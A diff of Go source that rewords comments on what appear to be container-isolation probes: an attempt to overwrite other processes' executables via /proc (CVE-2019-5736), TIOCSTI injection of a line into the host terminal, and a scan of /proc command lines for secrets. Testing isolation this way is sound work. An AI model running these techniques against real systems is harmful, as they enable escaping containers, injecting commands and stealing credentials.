@@ -11,8 +11,8 @@ import (
 	"unsafe"
 )
 
-// overwrite waits for programs that are not this one to come by in its process namespace, keeps them open, and tries to
-// write to them, also when they have ended (CVE-2019-5736). It does so until none has come for two seconds.
+// overwrite opens the executable of every new process in its pid namespace and tries to write to it, also after the
+// process has exited (CVE-2019-5736). It ends two seconds after the last new process.
 func overwrite(out io.Writer) error {
 	own, err := os.Stat("/proc/self/exe")
 	if err != nil {
@@ -32,7 +32,7 @@ func overwrite(out io.Writer) error {
 			}
 			f, err := os.Open("/proc/" + entry.Name() + "/exe")
 			if err != nil {
-				continue // not to be looked at, perhaps yet
+				continue // not readable, or not yet
 			}
 			info, err := f.Stat()
 			if err != nil || os.SameFile(info, own) {
@@ -55,7 +55,7 @@ func overwrite(out io.Writer) error {
 	return nil
 }
 
-// tiocsti puts words into the input of the terminal that is standard input (TIOCSTI, ioctl_tty(2)).
+// tiocsti writes a line into the input queue of the terminal at standard input (TIOCSTI, ioctl_tty(2)).
 func tiocsti(out io.Writer) error {
 	for _, b := range []byte("echo from the container\n") {
 		_, _, errno := syscall.Syscall(syscall.SYS_IOCTL, 0, 0x5412, uintptr(unsafe.Pointer(&b)))
@@ -68,7 +68,7 @@ func tiocsti(out io.Writer) error {
 	return nil
 }
 
-// words prints the first command line in /proc that has a secret, as soon as there is one.
+// words prints the first command line in /proc that contains a secret.
 func words(out io.Writer) error {
 	fmt.Println("watching")
 	buffer := make([]byte, 8192)
